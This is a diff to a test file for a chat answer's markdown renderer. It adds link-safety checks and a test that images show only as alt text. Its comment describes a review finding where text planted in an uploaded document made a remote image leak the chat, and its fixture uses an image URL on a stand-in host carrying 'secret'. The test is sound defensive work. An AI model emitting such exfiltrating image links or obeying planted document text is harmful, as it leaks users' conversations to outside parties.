@@ -9,6 +9,16 @@ describe('MarkdownAnswer', () => {
     expect(screen.getByRole('heading', { name: 'Fix Outlook' })).toBeInTheDocument();
     expect(screen.getAllByRole('listitem')).toHaveLength(2);
     expect(screen.getByRole('link', { name: 'Guide' })).toHaveAttribute('href', 'https://example.com/guide');
+    expect(screen.getByRole('link', { name: 'Guide' })).toHaveAttribute('rel', 'noopener noreferrer');
+    expect(screen.getByRole('link', { name: 'Guide' })).toHaveAttribute('target', '_blank');
+  });
+
+  // Review s29 #4: a remote image loaded itself, so text planted in an uploaded document could send the chat to any address.
+  it('shows an image as its alt text and never loads it', () => {
+    const { container } = renderWithProviders(<MarkdownAnswer text={'Done ![printer diagram](https://evil.example/p.png?u=secret) here'} />);
+    expect(container.querySelector('img')).toBeNull();
+    expect(container).toHaveTextContent('Done printer diagram here');
+    expect(container.innerHTML).not.toContain('evil.example');
   });
 
   it('never turns answer text into script, event handlers or javascript: links', () => {
